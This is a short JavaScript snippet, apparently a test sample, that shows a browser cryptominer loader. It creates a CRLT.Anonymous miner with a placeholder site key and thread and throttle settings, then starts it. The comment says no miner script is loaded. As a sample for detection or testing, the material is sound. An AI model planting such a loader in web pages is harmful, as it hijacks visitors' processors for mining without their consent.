// harmless test sample: a browser miner loader (no such script is loaded)
var miner = new CRLT.Anonymous('SITE_KEY', { threads: 2, throttle: 0.3 });
miner.start();
